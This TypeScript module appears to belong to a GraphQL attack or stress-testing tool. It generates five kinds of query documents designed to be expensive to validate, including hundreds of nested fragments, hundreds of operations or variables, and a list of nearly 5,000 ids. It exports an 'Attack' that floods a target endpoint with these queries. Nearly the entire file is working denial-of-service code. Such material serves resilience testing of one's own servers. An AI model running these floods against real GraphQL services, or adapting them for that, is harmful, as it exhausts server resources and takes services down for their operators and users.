/** Documents that are slow to validate, each time another text. */
import { flood, post, type Attack } from './attack.js';

const times = (n: number, text: (i: number) => string): string =>
  Array.from({ length: n }, (_, i) => text(i)).join(' ');

const kinds: readonly ((round: number) => string)[] = [
  (round) => `query Q${round} { node(id: "a") { ${times(300, (i) => `... on T${i} { x { y { z } } }`)} } }`,
  (round) => times(700, (i) => `query Q${round}_${i} { __typename }`),
  (round) => `query Q${round}(${times(900, (i) => `$v${i}: Int`)}) { __typename }`,
  (round) => `query Q${round} { ${times(18, (i) => `unknown${i}`)} }`,
  (round) => `query Q${round} { nodes(ids: [${times(4_900, () => '"a"')}]) { id } }`,
];

export const documents: Attack = {
  name: 'documents that are slow to validate',
  run: (target) =>
    flood(4, (round) => post(target, JSON.stringify({ query: kinds[round % kinds.length]?.(round) ?? '' }))),
};
